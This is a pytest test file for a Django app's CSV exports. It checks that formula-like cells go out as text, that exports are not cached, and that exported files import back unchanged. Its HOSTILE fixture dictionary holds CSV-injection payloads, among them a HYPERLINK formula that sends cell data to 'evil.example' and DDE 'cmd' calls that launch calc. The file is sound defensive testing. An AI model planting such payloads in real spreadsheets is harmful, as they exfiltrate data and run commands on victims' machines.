"""CSV exports (candidates and pilots, both through semaforo/lib/spreadsheet.csv_response):
no cell runs as a formula in the owner's spreadsheet, no shared cache keeps a copy, and an
export still imports back unchanged."""

from __future__ import annotations

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse

from candidates.models import Candidate
from tests.conftest import make_candidate
from tests.pilots.conftest import log_result, make_pilot

pytestmark = pytest.mark.django_db

EXPORT = reverse("candidates:export")
PILOTS_EXPORT = reverse("pilots:export")
IMPORT = reverse("candidates:import")
CONFIRM = reverse("candidates:import_confirm")

# What a teammate may type, and what a spreadsheet would otherwise run (OWASP CSV injection).
HOSTILE = {
    "name": '=HYPERLINK("https://evil.example/?d="&A2,"Open")',
    "business_type": "+cmd|' /C calc'!A0",
    "contact_name": "-2+3+cmd|' /C calc'!A0",
    "notes": "@SUM(1+1)*cmd|' /C calc'!A0",
    "filter_customer": "\t=1+1",
    "filter_channel": "\r=1+1",
}


def _cells(response) -> list[list[str]]:
    text = response.content.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline="")))


def test_candidate_cells_that_start_a_formula_go_out_as_text(owner_client, workspace):
    make_candidate(workspace, ticks=6, **HOSTILE)
    header, row = _cells(owner_client.get(EXPORT))
    by_column = dict(zip(header, row, strict=True))
    assert by_column["Name"] == "'" + HOSTILE["name"]
    assert by_column["Business type"] == "'" + HOSTILE["business_type"]
    assert by_column["Contact person"] == "'" + HOSTILE["contact_name"]
    assert by_column["Notes"] == "'" + HOSTILE["notes"]
    assert row.count("'\t=1+1") == 1 and row.count("'\r=1+1") == 1
    # What the app writes itself is untouched: the score, the colour, the dates.
    assert (by_column["Score"], by_column["Colour"]) == ("6", "Green")
    assert not any(cell.startswith("'") for cell in header)


def test_pilot_cells_that_start_a_formula_go_out_as_text(owner_client, workspace):
    candidate = make_candidate(workspace, "=1+1", ticks=6)
    pilot = make_pilot(candidate, offer="@SUM(A1:A9)", script="-1+1\nsecond line")
    log_result(pilot, referrals=3, sales=1, revenue="45.50")
    header, row = _cells(owner_client.get(PILOTS_EXPORT))
    by_column = dict(zip(header, row, strict=True))
    assert (by_column["Partner"], by_column["Offer"]) == ("'=1+1", "'@SUM(A1:A9)")
    assert by_column["Recommendation script"] == "'-1+1 / second line"
    assert (by_column["Referrals"], by_column["Sales"], by_column["Revenue"]) == (
        "3",
        "1",
        "45.50",
    )


@pytest.mark.parametrize("url", [EXPORT, PILOTS_EXPORT], ids=["candidates", "pilots"])
def test_exports_are_private_and_never_stored_by_a_cache(owner_client, candidate, url):
    response = owner_client.get(url)
    assert response.status_code == 200
    directives = {d.strip() for d in response["Cache-Control"].split(",")}
    assert {"private", "no-store"} <= directives
    assert "public" not in directives


@pytest.mark.parametrize("language", ["en", "es"])
def test_an_export_with_formula_like_cells_imports_back_unchanged(
    owner, workspace, outsider, language
):
    make_candidate(
        workspace,
        ticks=["ideal_customer", "measurable"],
        phone="+34 600 000 000",
        kind="channel",
        assets=["trust"],
        **HOSTILE,
    )
    make_candidate(workspace, "Librería Ñandú", ticks=8, notes="Normal; with “quotes”")
    client = Client(HTTP_ACCEPT_LANGUAGE=language)
    client.force_login(owner)
    exported = client.get(EXPORT).content
    other = Client(HTTP_ACCEPT_LANGUAGE=language)
    other.force_login(outsider)
    preview = other.post(IMPORT, {"file": SimpleUploadedFile("c.csv", exported, "text/csv")})
    assert preview.context["result"].ok, [r.errors for r in preview.context["result"].rows]
    other.post(CONFIRM, {"code": preview.context["pending"].code})
    fields = ["name", "business_type", "contact_name", "phone", "notes", "kind", "assets"]
    fields += ["filter_customer", "filter_channel", "status"]

    def rows(ws):
        found = Candidate.objects.with_current().filter(workspace=ws)
        return sorted(
            [getattr(c, f) for f in fields] + [c.current_score, c.current_colour] for c in found
        )

    original, copy = rows(workspace), rows(outsider.workspaces().get())
    # Leading tab and CR are whitespace the import trims, as it always has.
    original[0][fields.index("filter_customer")] = "=1+1"
    original[0][fields.index("filter_channel")] = "=1+1"
    assert copy == original
